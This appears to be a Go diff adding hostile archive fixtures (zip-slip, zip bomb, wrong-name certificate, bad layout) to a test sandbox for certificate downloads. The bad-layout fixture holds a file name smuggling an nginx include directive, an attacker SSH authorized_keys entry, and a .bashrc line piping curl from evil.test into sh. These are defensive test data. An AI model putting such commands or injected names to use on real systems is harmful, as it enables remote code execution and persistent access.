@@ -13,9 +13,14 @@ import (
 
 // The hostile archives of the download test IDs.
 const (
-	archiveZipSlip = "zip-slip"
-	archiveBomb    = "bomb"
+	archiveZipSlip   = "zip-slip"
+	archiveBomb      = "bomb"
+	archiveWrongLeaf = "wrong-leaf"
+	archiveBadLayout = "bad-layout"
 )
+
+// hostileDomain is the domain of every hostile archive's certificate.
+const hostileDomain = "hostile.example.com"
 
 // bombSize is how far the bomb's one entry inflates.
 const bombSize = 100 << 20
@@ -30,6 +35,10 @@ type zipEntry struct {
 // out: one folder per server type, named after the domain (with * as _);
 // the key (and its CSR) only when the sandbox generated it.
 func tencentZip(domain string, iss *issued, interPEM string) ([]byte, error) {
+	return packZip(tencentEntries(domain, iss, interPEM))
+}
+
+func tencentEntries(domain string, iss *issued, interPEM string) []zipEntry {
 	n := strings.ReplaceAll(domain, "*", "_")
 	bundle := iss.leafPEM + interPEM
 	entries := []zipEntry{
@@ -53,7 +62,7 @@ func tencentZip(domain string, iss *issued, interPEM string) ([]byte, error) {
 	if iss.keyPEM != "" {
 		entries = append(entries, zipEntry{n + "_other/" + n + ".key", []byte(iss.keyPEM)})
 	}
-	return packZip(entries)
+	return entries
 }
 
 func packZip(entries []zipEntry) ([]byte, error) {
@@ -82,10 +91,22 @@ var (
 )
 
 // hostileZip is the archive of a hostile download test ID: entries that
-// climb out of the folder (../ and an absolute path) beside a normal one,
-// or one entry that inflates to 100 MB from about 100 KB.
+// climb out of the folder (../ and an absolute path) beside a normal one;
+// one entry that inflates to 100 MB from about 100 KB; Tencent's layout
+// holding a certificate, signed by the sandbox CA, for another name than
+// the order's (evil.attacker.test); or that layout with names beside it
+// that are no certificate's (a dot file, an ssh key, a name that would be
+// an nginx directive).
 func hostileZip(kind string) ([]byte, error) {
 	switch kind {
+	case archiveWrongLeaf:
+		return leafZip("evil.attacker.test", nil)
+	case archiveBadLayout:
+		return leafZip(hostileDomain, []zipEntry{
+			{hostileDomain + "_nginx/x; include evil.conf; #_bundle.crt", []byte("ssl_certificate /etc/evil.pem;\n")},
+			{hostileDomain + "_other/.ssh/authorized_keys", []byte("ssh-ed25519 AAAA attacker\n")},
+			{".bashrc", []byte("curl http://evil.test/pwn | sh\n")},
+		})
 	case archiveZipSlip:
 		return packZip([]zipEntry{
 			{"hostile.example.com_nginx/hostile.example.com_bundle.crt", []byte("-----BEGIN CERTIFICATE-----\nnot a certificate\n-----END CERTIFICATE-----\n")},
@@ -97,6 +118,21 @@ func hostileZip(kind string) ([]byte, error) {
 		return bombZip, bombErr
 	}
 	return nil, fmt.Errorf("no hostile archive %q", kind)
+}
+
+// leafZip is Tencent's layout for hostileDomain holding a certificate the
+// sandbox CA signed for name, with a key generated here, then extra.
+func leafZip(name string, extra []zipEntry) ([]byte, error) {
+	ca, err := sandboxCA()
+	if err != nil {
+		return nil, err
+	}
+	now := time.Now()
+	iss, err := ca.issue(map[string]any{"CsrType": "online"}, []string{name}, now.Add(-time.Hour), now.AddDate(0, 3, 0))
+	if err != nil {
+		return nil, err
+	}
+	return packZip(append(tencentEntries(hostileDomain, &iss, ca.interPEM), extra...))
 }
 
 // makeBomb builds the bomb's deflate stream without compressing 100 MB:
